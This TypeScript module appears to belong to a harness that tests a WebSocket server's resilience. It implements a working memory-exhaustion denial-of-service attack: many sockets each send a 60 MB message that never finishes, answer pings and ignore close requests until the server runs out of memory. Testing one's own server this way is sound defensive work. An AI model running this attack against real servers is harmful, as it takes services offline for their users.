// WebSocket messages that never become complete, and so wait in the server's memory.

import { type Attack, type Attacker, Pace, pause, repeat } from "../attacker.ts";
import { joinAsGuest } from "../guest.ts";
import { RawClient } from "../../raw_client.ts";

/** How a filling goes. */
export interface Filling {
  readonly sockets: number;
  /** Whether the sockets join before. */
  readonly joined: boolean;
  /** `fragments`: a message of many parts. `frame`: a single frame, the last byte of which never comes. */
  readonly kind: "fragments" | "frame";
  /** The address of socket number `n`. */
  readonly addressOf: (n: number) => string;
}

/** Bytes of one message: below the 64 MiB at which a single frame is cut off. */
const MESSAGE_BYTES = 60_000_000;
/** Bytes written at a time. */
const PIECE_BYTES = 64 * 1024;
/** What all sockets send together, bytes a second: the case had 20 × 60 MB in 4.6 s. */
const BYTES_PER_SECOND = 300_000_000;
const OPENED_PER_SECOND = 100;
/** Pause after a socket is lost, milliseconds. */
const LOST_PAUSE_MS = 200;
const PATIENCE_MS = 5_000;

const CONTINUATION = 0, TEXT = 1;
const ZEROES = new Uint8Array(PIECE_BYTES);

/**
 * The case: unfinished messages, 20 sockets of one address × 60 MB, joined or not, at full speed; 1.3 to 1.7 GB, and the process was
 * killed. The sockets answer pings and ignore it when the server says that it closes; one that is gone comes again.
 */
export function unfinishedMessages(filling: Filling): Attack {
  return (attacker) => {
    const pace = new Pace(BYTES_PER_SECOND);
    const { sockets, joined, kind, addressOf } = filling;
    return repeat(attacker, { atOnce: sockets, perSecond: OPENED_PER_SECOND }, async (turn) => {
      const { port, traffic } = attacker;
      const options = { address: addressOf(turn), traffic, withinMs: PATIENCE_MS, ignoresClose: true };
      const client = joined
        ? await joinAsGuest(port, options)
        : await RawClient.open(port, () => {}, options);
      attacker.count("sockets");
      await fill(attacker, client, { pace, kind });
      await pause(LOST_PAUSE_MS);
    });
  };
}

/** Sends one message but for its end, then holds the socket until the server closes it. */
async function fill(
  attacker: Attacker,
  client: RawClient,
  { pace, kind }: { pace: Pace; kind: Filling["kind"] },
): Promise<void> {
  const lost = new Promise<void>((resolve) => client.onClose = resolve);
  if (kind === "frame") await client.write(frameHead(TEXT, { bytes: MESSAGE_BYTES, isLast: true }));
  for (let sent = 0; sent + PIECE_BYTES < MESSAGE_BYTES && !client.closed; sent += PIECE_BYTES) {
    await pace.take(PIECE_BYTES);
    const head = frameHead(sent === 0 ? TEXT : CONTINUATION, { bytes: PIECE_BYTES, isLast: false });
    if (kind === "fragments") void client.write(head);
    await client.write(ZEROES);
  }
  attacker.count(client.closed ? "cut off while sending" : "messages held");
  if (!client.closed) await lost;
}

/** The head of a client's frame, whose mask is zero. */
function frameHead(
  opcode: number,
  { bytes, isLast }: { bytes: number; isLast: boolean },
): Uint8Array<ArrayBuffer> {
  const head = new DataView(new ArrayBuffer(14));
  head.setUint8(0, (isLast ? 0x80 : 0) | opcode);
  head.setUint8(1, 0x80 | 127);
  head.setBigUint64(2, BigInt(bytes));
  return new Uint8Array(head.buffer);
}
